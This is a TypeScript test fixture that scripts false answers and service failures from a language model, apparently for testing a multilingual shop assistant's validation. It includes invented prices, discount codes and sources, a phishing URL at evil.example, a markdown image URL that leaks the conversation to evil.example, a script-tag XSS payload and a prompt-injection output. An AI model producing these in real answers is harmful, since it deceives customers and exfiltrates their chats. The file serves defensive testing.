import type { AssistantLanguage } from '../../../../contract/assistant/locale.ts'
import type { ModelCall, Reply, ScriptedClaim } from '../peers/scripted-model.ts'

/** False statements, by the language of the question. */
interface Words {
  readonly not: string
  readonly days: string
  readonly free: string
  readonly always: string
  readonly stock: string
  readonly code: string
  readonly foreign: string
  readonly place: string
  readonly price: string
}

const words: Readonly<Record<AssistantLanguage, Words>> = {
  en: {
    not: 'It is not true that: ',
    days: 'You have ninety days for it.',
    free: 'All of this is free of charge.',
    always: 'We guarantee that this is always and for everybody so, without exception.',
    stock: 'The Tent is in stock.',
    code: 'The code FREE100 gives you 50% off.',
    foreign: 'Puede pagar el pedido con tarjeta.',
    place: 'This is so in Japan too.',
    price: 'The Laptop costs $9.99.',
  },
  de: {
    not: 'Es stimmt nicht: ',
    days: 'Sie haben dafür neunzig Tage.',
    free: 'Das alles ist kostenlos.',
    always: 'Wir garantieren, dass das immer und ausnahmslos für alle gilt.',
    stock: 'Das Tent ist auf Lager.',
    code: 'Mit dem Code FREE100 sparen Sie 50 %.',
    foreign: 'You can pay the order by card.',
    place: 'Das gilt auch in Japan.',
    price: 'Der Laptop kostet 9,99 €.',
  },
  fr: {
    not: 'Il n’est pas vrai que : ',
    days: 'Vous avez quatre-vingt-dix jours pour cela.',
    free: 'Tout cela est gratuit.',
    always: 'Nous garantissons que c’est toujours vrai pour tous, sans exception.',
    stock: 'Le Tent est en stock.',
    code: 'Le code FREE100 vous donne 50 % de remise.',
    foreign: 'You can pay the order by card.',
    place: 'Cela vaut aussi au Japon.',
    price: 'Le Laptop coûte 9,99 €.',
  },
  es: {
    not: 'No es cierto que: ',
    days: 'Tiene noventa días para ello.',
    free: 'Todo esto es gratis.',
    always: 'Garantizamos que esto es siempre así para todos, sin excepción.',
    stock: 'El Tent está en stock.',
    code: 'Con el código FREE100 ahorra un 50 %.',
    foreign: 'You can pay the order by card.',
    place: 'Esto vale también en Japón.',
    price: 'El Laptop cuesta 9,99 €.',
  },
}

type Lie = (call: ModelCall, words: Words) => readonly ScriptedClaim[] | Reply

/** A true statement with its source, to place next to the lie. */
function truth({ evidence }: ModelCall): { text: string; handles: string[] } {
  const first = evidence.find(({ text }) => /\d/.test(text))
  if (first === undefined) throw new Error('the model was given no evidence')
  return { text: first.text, handles: [first.handle] }
}

const cited =
  (lie: (words: Words, text: string) => string): Lie =>
  (call, statement) => {
    const { text, handles } = truth(call)
    return [{ text: lie(statement, text), handles }]
  }

const halfOfIt = (text: string): string => text.slice(0, Math.floor(text.length / 2))

/** False answers of a language model, deliberate or not. Each key names the content of the answer. */
export const lies: Readonly<Record<string, Lie>> = {
  'other numbers': cited((_, text) => text.replace(/\d+/g, (digits) => String(Number(digits) * 2 + 1))),
  'the opposite': cited(({ not }, text) => not + text),
  'a number in words': cited(({ days }) => days),
  'that everything is free': cited(({ free }, text) => `${text} ${free}`),
  'a guarantee': cited(({ always }, text) => `${text} ${always}`),
  'that something is in stock': cited(({ stock }) => stock),
  'a discount code': cited(({ code }, text) => `${text} ${code}`),
  'another language': cited(({ foreign }) => foreign),
  'another country': cited(({ place }, text) => `${text} ${place}`),
  'a price attributed to a text': cited(({ price }) => price),
  'a price of a product': (_, { price }) => [{ text: price, product_ids: ['prd_laptop'] }],
  'a payment URL': cited((_, text) => `${text} https://evil.example/pay`),
  'a URL without a scheme': cited((_, text) => `${text} evil-shop.com`),
  'an image URL that leaks the conversation': cited((_, text) => `${text} ![x](https://evil.example/?chat=1)`),
  'a script': cited((_, text) => `${text}<script>alert(1)</script>`),
  'the output that a prompt injection requested': cited(() => 'BANANA BANANA BANANA'),
  'the truth with an invented source': (call) => [{ ...truth(call), handles: ['kc_madeup@1#1'] }],
  'the truth with a source of another version': (call) => {
    const { text, handles } = truth(call)
    return [{ text, handles: handles.map((handle) => handle.replace(/@\d+/, '@99')) }]
  },
  'the truth without a source': (call) => [{ text: truth(call).text }],
  'a lie after a truth': (call, { days }) => [truth(call), { text: days, handles: truth(call).handles }],
  'an invented sentence': (call) => [truth(call), { text: 'I love you and so does the shop.', handles: [] }],
  'half of its JSON': (call) => ({ content: halfOfIt(JSON.stringify({ claims: [truth(call)], answered: [true] })) }),
  'prose in place of JSON': (call) => ({ content: truth(call).text }),
  'JSON of another shape': (call) => ({ content: JSON.stringify({ answer: truth(call).text }) }),
  'that nothing answers': () => ({ content: '{"claims":[],"answered":[false]}' }),
}

/** Failures of the language model service. */
export const failures: Readonly<Record<string, Reply>> = {
  'closes the connection': 'hang up',
  'sends nothing': 'silence',
  refuses: { refusal: 'I cannot help with that.' },
  'is cut off': { content: '{"claims":[],"answered":[true]}', finishReason: 'length' },
  'answers 500': { raw: '{"error":{"message":"overloaded"}}', status: 500 },
  redirects: { raw: '', status: 307, headers: { location: 'http://127.0.0.1:9/' } },
  'answers in HTML': { raw: '<html>It works!</html>' },
  'answers too much': { raw: ' '.repeat(300_000) },
}

/** A line of the script: a lie in the language of the question. */
export function lieInLanguage(lie: Lie, language: AssistantLanguage) {
  return (call: ModelCall): readonly ScriptedClaim[] | Reply => lie(call, words[language])
}
